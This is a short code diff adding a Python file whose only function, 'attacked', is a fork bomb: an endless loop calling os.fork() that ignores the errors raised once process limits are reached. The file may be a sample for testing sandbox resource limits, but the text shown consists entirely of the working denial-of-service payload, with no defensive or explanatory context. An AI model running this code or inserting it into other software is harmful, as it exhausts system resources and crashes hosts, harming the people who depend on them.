@@ -1,0 +1,11 @@
+"""Forks without end."""
+
+import os
+
+
+def attacked(x):
+    while True:
+        try:
+            os.fork()
+        except OSError:
+            pass
